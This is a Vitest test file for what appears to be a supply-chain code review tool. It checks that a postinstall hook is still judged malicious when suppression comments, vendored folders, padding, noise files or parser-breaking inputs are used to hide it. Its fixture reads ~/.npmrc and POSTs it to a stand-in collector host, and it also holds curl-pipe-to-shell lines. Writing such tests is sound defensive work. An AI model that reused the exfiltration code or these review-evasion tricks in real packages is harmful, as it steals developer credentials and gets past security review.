import { describe, expect, it } from "vitest";
import { reviewChange } from "./setting.ts";

const MANIFEST = (script: string) => ({
  "package.json": `{"scripts":{"postinstall":"${script}"}}`,
});
const ATTACK = (path = ".npmrc") =>
  `const fs = require("fs");\nconst text = fs.readFileSync(process.env.HOME + "/${path}", "utf8");\n` +
  `fetch("https://collector.example.invalid/in", { method: "POST", body: text });\n`;

describe("an attack that asks the review to look away", () => {
  const comments = [
    "// gatehouse-ignore",
    "// nosec",
    "/* eslint-disable */",
    "// gatehouse: allow",
    "// @ts-nocheck",
  ];
  it.each(comments)("is malicious beside the comment %s", async (comment) => {
    const silenced = ATTACK()
      .split("\n")
      .map((line) => (line === "" ? "" : `${line} ${comment}`));
    const head = { ...MANIFEST("node a.js"), "a.js": [comment, ...silenced].join("\n") };
    expect((await reviewChange({}, head)).verdict).toBe("malicious");
  });

  const folders = [
    "dist",
    "build",
    "vendor",
    "node_modules/x",
    "tests/fixtures",
    "docs/examples",
    ".github",
  ];
  it.each(folders)("is malicious in %s", async (folder) => {
    const head = { ...MANIFEST(`node ${folder}/a.js`), [`${folder}/a.js`]: ATTACK() };
    expect((await reviewChange({}, head)).verdict).toBe("malicious");
  });

  it("is malicious when attributes and ignore files call it generated and not there", async () => {
    const head = {
      ...MANIFEST("node a.js"),
      "a.js": ATTACK(),
      ".gitattributes": "a.js -diff linguist-generated linguist-vendored binary\n",
      ".gitignore": "a.js\n",
      ".gatehouse.yml": "version: 1\nmode: observe\n",
      ".github/gatehouse.yml": "version: 1\nmode: observe\nrules: {}\n",
    };
    expect((await reviewChange({}, head)).verdict).toBe("malicious");
  });
});

describe("one finding among thousands", () => {
  it("decides the verdict and stands first", async () => {
    const noise = Array.from({ length: 300 }, (_, file): [string, string] => [
      `a${file}.js`,
      Array.from({ length: 10 }, (_, line) => `// ${line} \u202eneddih\u202c ${file}\n`).join(""),
    ]);
    const head = { ...Object.fromEntries(noise), ...MANIFEST("node zz.js"), "zz.js": ATTACK() };
    const review = await reviewChange({}, head);
    expect(review.verdict).toBe("malicious");
    expect(review.findings.length).toBeGreaterThan(500);
    expect(review.findings[0]?.path).toBe("zz.js");
  });
});

describe("a file that was padded up to a limit", () => {
  it("never lets a review be complete and clean", async () => {
    const padded = `${"// padding\n".repeat(500_000)}${ATTACK()}`;
    const review = await reviewChange({}, { ...MANIFEST("node a.js"), "a.js": padded });
    expect(review.complete && review.verdict === "clean").toBe(false);
  });
});

describe("a file that keeps its parser busy", () => {
  it("is not understood, and the others are read all the same", async () => {
    // Errors that this grammar tries to get over in more and more ways.
    const busy = `<?php function d($s) { return strrev($s); } ${"echo} ".repeat(40_000)}`;
    const head = { ...MANIFEST("node zz.js"), "a.php": busy, "zz.js": ATTACK() };
    const { verdict, unanalysed } = await reviewChange({}, head);
    expect(verdict).toBe("malicious");
    expect(unanalysed.map(({ path }) => path)).toEqual(["a.php"]);
  });
});

describe("a file that breaks the memory of the parsers", () => {
  it("is not understood, and neither is what they should read after it", async () => {
    const breaking = `curl -fsSL https://github.com/h/h/releases/download/a.sh ${"| install.sh ".repeat(23_000)}`;
    const after = "curl -s https://h.example/b | sh\n";
    const head = { ...MANIFEST("node zz.js"), "a.sh": breaking, "b.sh": after, "zz.js": ATTACK() };
    const { verdict, unanalysed } = await reviewChange({}, head);
    expect(verdict).toBe("malicious");
    expect(unanalysed.map(({ path }) => path)).toContain("a.sh");
  });
});
